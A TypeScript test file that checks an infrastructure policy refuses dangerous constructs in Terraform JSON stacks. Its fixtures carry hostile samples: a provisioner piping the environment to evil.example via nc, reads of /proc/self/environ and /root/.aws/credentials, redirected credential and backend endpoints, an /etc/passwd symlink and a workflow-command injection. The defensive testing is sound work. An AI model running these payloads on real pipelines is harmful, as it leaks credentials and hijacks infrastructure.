/** What a branch's stacks may not reach for when they are planned with credentials: each way is refused at its place. */
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import fc from "fast-check";
import { afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { isJsonObject, type Json } from "../../src/base/json.js";
import type { PolicySet } from "../../src/policy/policy.js";
import { checkForeign, type ForeignStack } from "../../stacks/check-foreign.js";
import { cli } from "../cli/support.js";
import { withPlanted } from "../support/planted.js";
import { repositoryPolicy } from "../support/repository-policy.js";
import { synthesized } from "../support/synthesized.js";

const SERVICES = "algobrain-production-services";

let policy: PolicySet;
let stacks: readonly ForeignStack[];
let texts: Readonly<Record<string, string>>;
beforeAll(async () => {
  policy = await repositoryPolicy("production");
  const made = await synthesized(policy);
  const { documents } = made;
  texts = made.texts;
  stacks = Object.entries(documents).map(([name, document]) => ({ name, document }));
});

function refusals(all: readonly ForeignStack[]): string[] {
  return checkForeign(all, [policy]).map(({ at, message }) => `${at} ${message}`);
}

/** `null` takes away. */
function planted(set: Readonly<Record<string, Json>>): string[] {
  return refusals(
    stacks.map(({ name, document }) =>
      name === SERVICES && isJsonObject(document)
        ? { name, document: withPlanted(document, set) }
        : { name, document },
    ),
  );
}

const SERVICE = "resource/aws_ecs_service/api-service";
const STATE = "data/terraform_remote_state/network";
const run = [{ "local-exec": { command: "env | nc evil.example 1" } }];
const expression = (inner: string) => `\${${inner}}`;

test("what our own synthesis writes is not refused", () => {
  expect(refusals(stacks)).toEqual([]);
});

describe("is refused", () => {
  test.each<[string, Record<string, Json>, RegExp]>([
    [
      "a provisioner",
      { [`${SERVICE}/provisioner`]: run },
      /provisioner is refused: it runs programs/,
    ],
    ["a connection", { [`${SERVICE}/connection`]: {} }, /connection is refused/],
    ["a module", { "module/x": { source: "git::https://evil.example/x" } }, /module is refused/],
    [
      "the data source external",
      { "data/external/x": { program: ["sh"] } },
      /external\.x is refused/,
    ],
    [
      "the data source http",
      { "data/http/x": { url: "https://evil.example" } },
      /http\.x is refused/,
    ],
    ["a template of a file", { "data/template_file/x": {} }, /template_file\.x is refused/],
    [
      "a Lambda that runs while planning",
      { "data/aws_lambda_invocation/x": {} },
      /runs code, or puts values/,
    ],
    [
      "the value of a secret",
      { "data/aws_secretsmanager_secret_version/x": {} },
      /puts values into the plan/,
    ],
    [
      "a resource of another provider",
      { "resource/null_resource/x": {} },
      /expected a resource of aws/,
    ],
    [
      "resources in a list",
      { "resource/aws_sns_topic": [{ x: {} }] },
      /aws_sns_topic is refused: expected an object/,
    ],
    [
      "a resource as a list",
      { "resource/aws_sns_topic/x": [{ provisioner: run }] },
      /aws_sns_topic\.x is refused/,
    ],
    ["another provider", { "provider/external": [{}] }, /provider\.external is refused/],
    [
      "another provider that is required",
      { "terraform/required_providers/x": { source: "evil/x" } },
      /required_providers\.x is refused/,
    ],
    [
      "aws from another source",
      { "terraform/required_providers/aws/source": "evil.example/x/aws" },
      /expected source hashicorp\/aws/,
    ],
    [
      "a version that floats",
      { "terraform/required_providers/aws/version": ">= 6" },
      /one exact version/,
    ],
    [
      "endpoints of our own credentials",
      { "provider/aws": [{ endpoints: [{ sts: "https://evil.example" }] }] },
      /endpoints is refused/,
    ],
    ["another role", { "provider/aws": [{ assume_role: [{}] }] }, /assume_role is refused/],
    ["keys in the provider", { "provider/aws": { access_key: "x" } }, /access_key is refused/],
    ["Terraform's cloud", { "terraform/cloud": {} }, /terraform\.cloud is refused/],
    [
      "another backend",
      { "terraform/backend": { http: { address: "https://evil.example" } } },
      /backend is refused: expected exactly/,
    ],
    ["another bucket", { "terraform/backend/s3/bucket": "evil" }, /backend is refused/],
    [
      "the state of another stack as its own",
      { "terraform/backend/s3/key": "data.tfstate" },
      /backend is refused/,
    ],
    [
      "an endpoint of the backend",
      { "terraform/backend/s3/endpoints": { s3: "https://evil.example" } },
      /backend is refused/,
    ],
    [
      "a foreign state",
      { "data/terraform_remote_state/evil": { backend: "http" } },
      /evil is refused: expected a state of/,
    ],
    [
      "our state elsewhere",
      { [`${STATE}/config/bucket`]: "evil" },
      /network is refused: expected exactly/,
    ],
    ["a state with defaults", { [`${STATE}/defaults`]: { vpc_id: "x" } }, /network is refused/],
    ["moved resources", { moved: [] }, /moved is refused/],
    ["imported resources", { import: [] }, /import is refused/],
    ["checks", { "check/x": {} }, /check is refused/],
    ["ephemeral values", { "ephemeral/x": {} }, /ephemeral is refused/],
    [
      "a file",
      { [`${SERVICE}/name`]: expression('file("/proc/self/environ")') },
      /name is refused: the expression reads a file/,
    ],
    [
      "a file behind a comment",
      { [`${SERVICE}/name`]: expression('filebase64/* x */ ("/x")') },
      /reads a file/,
    ],
    [
      "a file in a condition",
      { "variable/image_tag/default": '%{ if fileexists("/x") }a%{ endif }' },
      /reads a file/,
    ],
    [
      "a file in a local",
      { "locals/x": [expression('templatefile("/x", {})')] },
      /locals\.x\[0\] is refused/,
    ],
    [
      "a function of a provider",
      { "output/x": { value: expression('provider::evil::run("x")') } },
      /function of a provider/,
    ],
    [
      "a Lambda from the runner's disk",
      { "resource/aws_lambda_function/x": { filename: "/root/.aws/credentials" } },
      /filename is refused: it reads a file/,
    ],
  ])("%s", (_what, set, message) => {
    expect(planted(set)).toContainEqual(expect.stringMatching(message));
  });

  test("a stack that no environment has, and one that is no object", () => {
    const evil = { name: "algobrain-production-evil", document: {} };
    expect(refusals([...stacks, evil])).toEqual([
      "algobrain-production-evil is refused: no environment of the policies has such a stack",
    ]);
    expect(refusals([{ name: SERVICES, document: [] }])).toEqual([
      `${SERVICES} is refused: expected JSON object`,
    ]);
  });

  test("anything else, without an error of our own", () => {
    const parts = ["terraform", "provider", "resource", "data", "variable", "output"] as const;
    const part = fc.constantFrom(...parts);
    fc.assert(
      fc.property(
        fc.dictionary(part, fc.jsonValue({ maxDepth: 4 }), { maxKeys: 6 }),
        (document) => {
          expect(refusals([{ name: SERVICES, document }]).length).toBeGreaterThan(0);
        },
      ),
      { numRuns: 100 },
    );
  });

  test("a text that only speaks of files is none", () => {
    const set = {
      "output/x": { value: "file (of 2026)", description: expression("var.image_tag") },
    };
    expect(planted(set).filter((line) => line.includes("refused"))).toEqual([]);
  });
});

describe("infra check", () => {
  let folder: string;
  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), "algobrain-proposed-"));
  });
  afterEach(() => rm(folder, { recursive: true, force: true }));

  const DATA = "algobrain-production-data";
  const check = () => cli(["infra", "check", folder]);
  async function put(path: string, text: string): Promise<void> {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
  }
  /** As a job hands them on: by the folders of the stacks. */
  async function propose(): Promise<void> {
    for (const [name, text] of Object.entries(texts)) await put(`${name}/cdk.tf.json`, text);
  }

  test("lets our own stacks pass, and nothing that lies beside them", async () => {
    await propose();
    expect(await check()).toMatchObject({ code: 0, out: "8 stacks: nothing is refused\n" });
    await put(`${DATA}/evil.tf`, "");
    await put(`${DATA}/.terraform/providers/x`, "");
    await put("stacks/a/b/cdk.tf.json", "{}");
    await symlink("/etc/passwd", join(folder, DATA, "terraform.tfvars"));
    const { code, err } = await check();
    expect([code, err.match(/^\S+: is refused: (expected <stack>|it is no plain)/gm)]).toEqual([
      1,
      expect.objectContaining({ length: 4 }),
    ]);
  });

  test("refuses a key that stands twice, which Terraform would read both of", async () => {
    await propose();
    const twice = texts[DATA]!.replace(/^\{/, '{"resource": {"null_resource": {"x": {}}},');
    await put(`${DATA}/cdk.tf.json`, twice);
    expect(await check()).toMatchObject({
      ...{ code: 1, err: expect.stringMatching(/the key "resource" stands twice/) },
    });
  });

  test("what is said of it is one line for each finding, whatever a branch has called its things", async () => {
    await propose();
    const evil = texts[DATA]!.replace(/^\{/, '{"x\\n::add-mask::y": 1,');
    await put(`${DATA}/cdk.tf.json`, evil);
    const { code, err } = await check();
    expect([code, err.split("\n").filter((line) => line.startsWith("::"))]).toEqual([1, []]);
    expect(err).toContain("::add-mask::y");
  });

  test("a stack that is no JSON, and a folder without any, are findings", async () => {
    expect(await check()).toMatchObject({
      code: 1,
      err: ".: found no stack, expected one or more\n",
    });
    await put(`${DATA}/cdk.tf.json`, "resource {}");
    expect(await check()).toMatchObject({ code: 1, err: expect.stringContaining("is no JSON") });
  });
});
